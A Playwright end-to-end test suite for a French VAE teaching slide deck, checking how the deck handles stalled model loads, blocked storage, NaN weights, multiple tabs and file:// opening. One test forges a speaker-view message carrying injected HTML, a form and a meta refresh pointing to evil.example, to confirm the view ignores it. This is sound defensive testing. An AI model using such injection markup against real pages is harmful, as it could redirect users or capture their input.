/**
 * A room that misbehaves (issue 18): a stalled model request, a presenter remote after a slider drag, a phone-width
 * window with blocked storage, NaN weights, a forged speaker message, two deck tabs, file://. Each test reproduces
 * one failure seen on the built deck at commit 9faab49 and asserts the behaviour that replaced it.
 */
import { after, describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import type { BrowserContext, Page } from 'playwright-core';
import { distDir, gotoDeck, openPage, showSlide, startEnv, type DeckEnv } from './harness.ts';

const started = Date.now();
after(() => console.log(`room.e2e: ${((Date.now() - started) / 1000).toFixed(0)} s`));

async function withEnv(opts: Parameters<typeof startEnv>[0], body: (env: DeckEnv) => Promise<void>): Promise<void> {
  const env = await startEnv(opts);
  try {
    await body(env);
  } finally {
    await env.close();
  }
}

/** Resolve with how long `p` took, or reject after `ms`. */
async function within<T>(ms: number, what: string, p: Promise<T>): Promise<number> {
  const t0 = Date.now();
  let timer: ReturnType<typeof setTimeout> | undefined;
  const late = new Promise<never>((_, reject) => (timer = setTimeout(() => reject(new Error(`${what}: still waiting after ${ms} ms`)), ms)));
  try {
    await Promise.race([p, late]);
  } finally {
    clearTimeout(timer);
  }
  return Date.now() - t0;
}

const currentId = (page: Page) => page.evaluate(() => (window as any).__deck.currentId as string | null);

/** Open the speaker view of `deck` with its S key; resolves once it shows the deck's slide with its notes. */
async function openSpeaker(context: BrowserContext, deck: Page): Promise<Page> {
  const [speaker] = await Promise.all([context.waitForEvent('page'), deck.keyboard.press('s')]);
  await speaker.waitForLoadState('domcontentloaded');
  await speaker.waitForFunction(() => / · /.test(document.querySelector('[data-role="pos"]')?.textContent ?? ''), null, { timeout: 30_000 });
  return speaker;
}

/** What the speaker view shows: position line and notes (text), and whether any form or meta tag got in. */
const speakerShows = (speaker: Page) =>
  speaker.evaluate(() => ({
    pos: document.querySelector('[data-role="pos"]')?.textContent ?? null,
    notes: document.querySelector('[data-role="notes"]')?.textContent ?? null,
    injected: document.querySelectorAll('form, meta[http-equiv="refresh"], #forged').length,
  }));

describe('a room that misbehaves', () => {
  it('1. a stalled model request blocks no other slide; its slide times out with a notice and a working retry', async () => {
    await withEnv({}, async (env) => {
      const { page } = await openPage(env, { failedRequest: /weights\.bin/, consoleError: /weights|pretrained|model/i });
      let stall = true;
      // headers never come: the request hangs until the page gives up on it
      await page.route('**/models/*/*/weights.bin', (route) => (stall ? undefined : route.continue()));
      await gotoDeck(env, page, '?load-timeout=3');
      const t0 = Date.now();
      const stalled = showSlide(page, 'latent-space').catch(() => {}); // its model never arrives
      await page.waitForTimeout(300);
      await within(2500, 'the KL slide after a stalled model slide', showSlide(page, 'kl-divergence'));
      assert.ok((await page.locator('#kl-divergence input[type="range"]').count()) >= 4, 'the KL sliders are there');
      await showSlide(page, 'latent-space');
      const notice = page.locator('#latent-space .notice-error');
      await notice.waitFor({ timeout: 8000 });
      assert.match(await notice.innerText(), /weights\.bin.*(réseau lent|Réessayez)/s);
      assert.ok(Date.now() - t0 < 10_000, 'the load gave up within its timeout');
      stall = false;
      await page.locator('#latent-space .notice-error button.retry-button').click();
      await page.locator('#latent-space > .backend-badge').waitFor({ timeout: 60_000 });
      assert.equal(await page.locator('#latent-space .notice-error').count(), 0, 'the retry loaded the model');
      await stalled;
    });
  });

  it('1b. print completes with notices where the models stalled', async () => {
    await withEnv({}, async (env) => {
      const { page } = await openPage(env, { failedRequest: /weights\.bin/, consoleError: /weights|pretrained|model/i });
      await page.route('**/models/*/*/weights.bin', () => undefined);
      await page.goto(`${env.url}index.html?print-pdf&load-timeout=3`);
      await within(40_000, 'print ready', page.waitForFunction(() => document.documentElement.dataset.deckReady === 'true', null, { timeout: 40_000 }));
      assert.ok((await page.locator('#latent-space .notice-error').count()) > 0, 'the latent-space page says its model failed');
    });
  });

  it('3. a phone-width window opens a shared link on its slide, navigates, and survives blocked storage', async () => {
    await withEnv({}, async (env) => {
      const context = await env.browser.newContext({ viewport: { width: 400, height: 800 } });
      try {
        const page = await context.newPage();
        const errors: string[] = [];
        page.on('pageerror', (e) => errors.push(e.message));
        // site data blocked: Chromium throws a SecurityError on any access to sessionStorage / localStorage
        await page.addInitScript({
          content: `for (const name of ['sessionStorage', 'localStorage']) Object.defineProperty(window, name, { configurable: true, get() { throw new DOMException('access denied', 'SecurityError'); } });`,
        });
        await page.goto(`${env.url}index.html?mu1=0&s1=1&mu2=1&s2=2#/kl-divergence`);
        await page.waitForFunction(() => document.documentElement.dataset.deckReady === 'true', null, { timeout: 30_000 });
        assert.equal(await currentId(page), 'kl-divergence');
        assert.match(await page.evaluate(() => location.hash), /#\/kl-divergence$/);
        await showSlide(page, 'gaussian-nd');
        assert.equal(await currentId(page), 'gaussian-nd', 'programmatic navigation works');
        assert.deepEqual(errors, []);
      } finally {
        await context.close();
      }
    });
  });

  it('4. after a mouse drag on a slider, remote keys drive the deck; a Tab-focused slider keeps its arrows', async () => {
    await withEnv({}, async (env) => {
      const { page } = await openPage(env);
      await gotoDeck(env, page, '', '#/kl-divergence');
      const slider = page.locator('#kl-divergence input[type="range"]').first();
      const drag = async () => {
        const box = (await slider.boundingBox())!;
        await page.mouse.move(box.x + box.width * 0.3, box.y + box.height / 2);
        await page.mouse.down();
        await page.mouse.move(box.x + box.width * 0.6, box.y + box.height / 2, { steps: 4 });
        await page.mouse.up();
      };
      for (const key of ['PageDown', 'ArrowRight', 'Space']) {
        await showSlide(page, 'kl-divergence');
        await drag();
        await page.waitForTimeout(400); // the drag's values reach the address bar within 200 ms
        const query = await page.evaluate(() => location.search);
        await page.keyboard.press(key);
        await page.waitForFunction(() => (window as any).__deck.currentId === 'kl-in-vae', null, { timeout: 3000 }).catch(() => {});
        assert.equal(await currentId(page), 'kl-in-vae', `${key} after a drag moves the deck`);
        await page.waitForTimeout(400);
        assert.equal(await page.evaluate(() => location.search), query, `${key} leaves the dragged slider (and the shared URL) alone`);
      }
      await showSlide(page, 'kl-divergence');
      await drag();
      await page.keyboard.press('L');
      await page.waitForFunction(() => (window as any).__deck.lang === 'en', null, { timeout: 5000 });
      await page.evaluate(() => (window as any).__deck.setLang('fr'));
      // keyboard focus from Tab: the arrows are the slider's
      await page.evaluate(() => (document.activeElement as HTMLElement | null)?.blur());
      const first = page.locator('#kl-divergence input[type="range"]').first();
      for (let i = 0; i < 40 && !(await first.evaluate((el) => el === document.activeElement)); i++) await page.keyboard.press('Tab');
      assert.ok(await first.evaluate((el) => el === document.activeElement), 'Tab reaches the slider');
      const before = await first.inputValue();
      await page.keyboard.press('ArrowRight');
      assert.notEqual(await first.inputValue(), before, 'ArrowRight moves a Tab-focused slider');
      assert.equal(await currentId(page), 'kl-divergence');
      await page.keyboard.press('PageDown');
      await page.waitForFunction(() => (window as any).__deck.currentId === 'kl-in-vae', null, { timeout: 3000 });
    });
  });

  it('5. NaN-filled weights give a clear message naming the damaged file on every generating slide', async () => {
    const file = 'models/vae-mnist/encoder/weights.bin';
    const nan = new Float32Array(readFileSync(join(distDir, file)).length / 4).fill(Number.NaN);
    await withEnv({ serve: { override: (p) => (p === `/${file}` ? new Uint8Array(nan.buffer) : null) } }, async (env) => {
      const { page, problems } = await openPage(env, { consoleError: /weights|pretrained|model|NaN/i });
      await gotoDeck(env, page);
      for (const id of ['latent-space', 'latent-in-vae', 'generating', 'generation-demo', 'latent-explorer']) {
        await showSlide(page, id);
        const notice = page.locator(`#${id} .notice-error`).first();
        await notice.waitFor({ timeout: 30_000 });
        const text = await notice.innerText();
        assert.match(text, /vae-mnist\/encoder\/weights\.bin/, `${id} names the damaged file: ${text}`);
        assert.match(text, /poids endommagés.*nombres finis/, `${id} says what is wrong`);
        const body = await page.locator(`#${id}`).innerText();
        assert.doesNotMatch(body, /minimumFractionDigits|\bNaN\b|Infinity|undefined/, `${id} shows no broken number`);
      }
      assert.deepEqual(problems.errors.filter((e) => /minimumFractionDigits/.test(e)), []);
    });
  });

  it('2. a forged speaker message with markup in its notes changes nothing in the speaker view', async () => {
    await withEnv({}, async (env) => {
      const { page } = await openPage(env);
      await gotoDeck(env, page, '', '#/kl-divergence');
      const speaker = await openSpeaker(env.context, page);
      const before = await speakerShows(speaker);
      assert.ok(before.pos?.endsWith((await page.locator('#kl-divergence .slide-title').textContent())!.trim()));
      // the speaker view lays the notes out (a bold lead becomes a heading without its final '.' or ':')
      const words = (text: string) => text.replace(/[.:]/g, '').replace(/\s+/g, ' ').trim().slice(0, 60);
      assert.equal(words(before.notes!), words((await page.locator('#kl-divergence aside.notes').textContent())!));
      const foreign: string[] = [];
      env.context.on('request', (r) => (new URL(r.url()).hostname === 'evil.example' ? foreign.push(r.url()) : undefined));
      const pair = new URL(speaker.url()).searchParams.get('pair');
      const real = await page.evaluate(() => ({ index: (window as any).__deck.ids.indexOf('kl-divergence'), total: (window as any).__deck.ids.length }));
      const attacker = await env.context.newPage();
      await attacker.goto(`${env.url}index.html?receiver#/title`); // any page of the same origin
      await attacker.evaluate(
        ({ pair, real }) => {
          const markup =
            '<div id="forged" style="position:fixed;inset:0;background:#fff;z-index:9"><form action="https://evil.example/"><input name="p"></form></div>' +
            '<meta http-equiv="refresh" content="0;url=https://evil.example/">';
          const channel = new BroadcastChannel('vae-deck-speaker');
          const state = { type: 'state', id: 'kl-divergence', ...real, lang: 'fr', nextId: 'kl-in-vae', title: markup, notes: markup };
          channel.postMessage(state); // the old format, no pair
          channel.postMessage({ ...state, pair }); // the right pair, with markup in the text fields
          channel.postMessage({ ...state, pair, id: '"]<form>', index: 0 });
        },
        { pair, real },
      );
      await speaker.waitForTimeout(1500);
      assert.deepEqual(await speakerShows(speaker), before, 'the speaker view shows the same slide, notes and no injected markup');
      assert.match(speaker.url(), /speaker\.html\?pair=/, 'the speaker window stayed on its page');
      assert.deepEqual(foreign, []);
      for (const file of ['index.html', 'speaker.html']) {
        const csp = /http-equiv="Content-Security-Policy"\s+content="([^"]+)"/.exec(readFileSync(join(distDir, file), 'utf8'))?.[1] ?? '';
        assert.match(csp, /base-uri 'none'/, `${file} forbids <base>`);
        assert.match(csp, /form-action 'none'/, `${file} forbids form submission`);
      }
      await attacker.close();
      await speaker.close();
    });
  });

  it('6. β and the learning rate set during "Démarrage…" are the ones the worker trains with, and stay on return', async () => {
    await withEnv({}, async (env) => {
      const { page } = await openPage(env);
      // a slow network: the worker's data arrives 3 s late, so the slide stays in "Démarrage…" long enough to act
      await env.context.route('**/data/mnist-10k.bin', async (route) => {
        await new Promise((r) => setTimeout(r, 3000));
        await route.continue();
      });
      await gotoDeck(env, page);
      const shown = showSlide(page, 'training').catch(() => {}); // its mount may wait for the worker: act meanwhile
      const dash = page.locator('#training .tr-dashboard');
      await page.waitForFunction(() => document.querySelector<HTMLElement>('#training .tr-dashboard')?.dataset.busy === 'true', null, { timeout: 5000 });
      assert.match(await page.locator('#training').innerText(), /Démarrage/);
      const set = (sel: string, value: string) =>
        page.locator(`#training ${sel}`).evaluate((el: HTMLInputElement, v) => {
          el.value = v;
          el.dispatchEvent(new Event('input', { bubbles: true }));
        }, value);
      await set('.tr-beta', '2.5');
      await set('.tr-lr', '-3.5');
      assert.equal(await dash.getAttribute('data-busy'), 'true', 'both were set while the worker was starting');
      await page.waitForSelector('#training .tr-dashboard[data-ready="true"]', { timeout: 60_000 });
      await page.click('#training .tr-play');
      await page.waitForFunction(() => Number(document.querySelector<HTMLElement>('#training .tr-step-value')?.dataset.value || 0) >= 10, null, { timeout: 30_000 });
      await page.click('#training .tr-play'); // pause
      // what the worker reports it trained the last step with (data-last-*: the dashboard's echo of the worker)
      const trained = { beta: await dash.getAttribute('data-last-beta'), lr: await dash.getAttribute('data-last-lr') };
      await showSlide(page, 'generation-demo');
      await showSlide(page, 'training');
      await shown;
      assert.equal(await page.locator('#training .tr-beta').inputValue(), '2.5', 'β is kept on return');
      assert.equal(Number(await page.locator('#training .tr-lr').inputValue()), -3.5, 'the learning rate is kept on return');
      assert.equal(Number(trained.beta), 2.5, `the worker trains with β = 2.5 (it reports ${trained.beta})`);
      assert.ok(Math.abs(Number(trained.lr) / 10 ** -3.5 - 1) < 1e-6, `the worker trains with lr = 10^-3.5 (it reports ${trained.lr})`);
    });
  });

  it('7. two deck tabs, one speaker view: it shows and drives only the deck that opened it', async () => {
    await withEnv({}, async (env) => {
      const { page: mine } = await openPage(env);
      const { page: other } = await openPage(env);
      await gotoDeck(env, mine, '', '#/kl-divergence');
      await gotoDeck(env, other, '', '#/gaussian-nd');
      const speaker = await openSpeaker(env.context, mine);
      const klTitle = (await mine.locator('#kl-divergence .slide-title').textContent())!.trim();
      assert.ok((await speakerShows(speaker)).pos!.endsWith(klTitle), 'it shows the slide of the deck that opened it');
      await showSlide(other, 'generating'); // the other deck moves: nothing changes in this speaker view
      await speaker.waitForTimeout(800);
      assert.ok((await speakerShows(speaker)).pos!.endsWith(klTitle), 'the other deck does not move this speaker view');
      await speaker.keyboard.press('ArrowRight');
      await mine.waitForFunction(() => (window as any).__deck.currentId === 'kl-in-vae', null, { timeout: 5000 });
      const next = (await mine.locator('#kl-in-vae .slide-title').textContent())!.trim();
      await speaker.waitForFunction((t) => document.querySelector('[data-role="pos"]')!.textContent!.endsWith(t), next, { timeout: 10_000 });
      await other.waitForTimeout(500);
      assert.equal(await currentId(other), 'generating', 'the other deck is not driven by this speaker view');
      await speaker.close();
    });
  });

  it('8. dist/index.html opened from file:// says, in French and English, how to open the deck', async () => {
    await withEnv({}, async (env) => {
      const page = await env.context.newPage();
      await page.goto(`file://${join(distDir, 'index.html')}`);
      await page.waitForFunction(
        () => {
          const w = document.getElementById('file-warning');
          return !!w && getComputedStyle(w).opacity === '1' && w.getBoundingClientRect().height > 0;
        },
        null,
        { timeout: 8000 },
      );
      const text = await page.locator('#file-warning').innerText();
      assert.match(text, /npm run preview/);
      assert.match(text, /serveur web/);
      assert.match(text, /web server/);
      await page.close();
    });
  });

  it('8b. served over HTTP, the file:// message never shows', async () => {
    await withEnv({}, async (env) => {
      const { page } = await openPage(env);
      await gotoDeck(env, page);
      assert.equal(await page.locator('#file-warning').count(), 0);
    });
  });
});

